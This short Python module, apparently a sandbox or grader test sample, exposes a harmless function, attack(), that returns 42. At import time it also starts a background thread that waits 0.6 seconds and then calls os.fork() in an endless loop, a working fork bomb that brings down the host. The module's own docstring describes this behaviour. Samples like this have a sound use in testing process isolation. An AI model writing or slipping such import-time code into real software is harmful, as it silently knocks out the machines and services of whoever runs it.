"""Answers honestly, while a thread that began at import waits and then forks for ever."""

import os
import threading
import time


def later():
    time.sleep(0.6)
    while True:
        os.fork()


threading.Thread(target=later, daemon=True).start()


def attack():
    return 42
